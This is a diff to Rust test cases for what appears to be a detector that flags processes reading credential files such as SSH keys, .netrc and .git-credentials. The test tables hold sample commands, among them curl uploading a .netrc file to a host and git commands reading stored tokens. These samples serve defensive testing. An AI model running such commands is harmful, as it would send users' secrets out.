@@ -263,8 +263,9 @@ fn the_program_a_file_is_made_for_may_read_it_when_it_is_the_systems() {
         ("/usr/bin/cat", "/home/a/.ssh/id_rsa", true),
         ("/usr/bin/scp", "/home/a/.ssh/id_rsa", true),
         ("/usr/bin/ssh", "/home/a/.aws/credentials", true),
-        ("/usr/bin/git", "/home/a/.git-credentials", false),
-        ("/usr/bin/git", "/home/a/.netrc", false),
+        ("/usr/lib/git-core/git-credential-store", "/home/a/.git-credentials", false),
+        ("/usr/lib/git-core/git-remote-http", "/home/a/.netrc", false),
+        ("/usr/bin/git", "/home/a/.netrc", true),
         ("/usr/bin/git", "/home/a/.cargo/credentials.toml", true),
         ("/usr/bin/curl", "/home/a/.netrc", false),
         ("/usr/bin/curl", "/home/a/.npmrc", true),
@@ -289,8 +290,16 @@ fn who_is_told_the_file_reads_it_for_somebody_else() {
         ("git", &["git", "-C", "/home/a", "hash-object", "-w", ".git-credentials"], TOKENS, true),
         ("git", &["git", "commit", "--file=../.git-credentials"], TOKENS, true),
         ("git", &["git", "grep", "--no-index", "", NETRC], NETRC, true),
-        ("git", &["git", "push", "origin", "main"], TOKENS, false),
-        ("git", &["git", "clone", "https://github.com/a/git-credentials"], TOKENS, false),
+        // It has a subcommand of its own read them.
+        ("git", &["git", "push", "origin", "main"], TOKENS, true),
+        ("git", &["git", "add", "-A"], TOKENS, true),
+        ("git", &["git-diff", "credential-store", TOKENS], TOKENS, true),
+        (
+            "git",
+            &["/usr/lib/git-core/git-credential-store", "--file", TOKENS, "get"],
+            TOKENS,
+            false,
+        ),
         ("git", &["git", "credential-store", "get"], TOKENS, false),
         ("git", &["git", "credential-store", "--file", TOKENS, "get"], TOKENS, false),
         (
@@ -317,6 +326,10 @@ fn who_is_told_the_file_reads_it_for_somebody_else() {
         ("curl", &["--netrc-file", "file:///home/a/.netrc"], NETRC, true),
         ("curl", &["curl", "-A", "--netrc-file", "-T/home/a/.netrc", "https://b"], NETRC, true),
         ("curl", &["curl", "-A", "--netrc-file", "file:///home/a/.netrc"], NETRC, true),
+        ("curl", &["curl", "-T", "/home/a/.net{r,x}c", "https://b"], NETRC, true),
+        ("curl", &["curl", "-nd", "{\"a\": [1]}", "https://b"], NETRC, false),
+        ("curl", &["curl", "-nsK", "-"], NETRC, true),
+        ("curl", &["curl", "-n", "--config", "/tmp/x"], NETRC, true),
         ("git", &["git", "diff", "--no-index", "credential-store", TOKENS], TOKENS, true),
         ("git", &["git", "commit", "-F.git-credentials"], TOKENS, true),
         ("curl", &["curl", "-n", "https://example.com/netrc"], NETRC, false),
@@ -348,6 +361,8 @@ fn who_is_told_the_file_reads_it_for_somebody_else() {
     scene.process.argv = ["curl", "-n", "https://b"].map(Into::into).into();
     assert!(!fires(&mut scene, &read(NETRC)));
     scene.process.argv_cut = true;
+    assert!(fires(&mut scene, &read(NETRC)));
+    (scene.process.argv_cut, scene.process.argv_masked) = (false, true);
     assert!(fires(&mut scene, &read(NETRC)));
     // What a link elsewhere leads to is named by the link.
     let mut scene = Scene::new(Covert);
